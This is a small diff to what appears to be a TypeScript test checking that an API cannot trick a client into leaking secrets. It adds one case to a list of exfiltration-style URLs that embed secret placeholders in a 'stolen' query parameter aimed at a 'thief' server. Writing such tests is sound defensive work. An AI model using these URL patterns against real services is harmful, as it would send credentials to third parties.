@@ -181,6 +181,7 @@ test('an API cannot talk a secret out of us', async (t) => {
   for (const steal of [
     (host: string) => `http://${host}/x?stolen=\${secret:K}&other=\${secret:OTHER}`,
     () => `/x?stolen=\${secret:OTHER}`,
+    () => `/x?stolen=\${secret:K}`,
     () => `${thief.url('/y')}?stolen=\${secret:K}`,
   ]) {
     const server = await serve(t, {
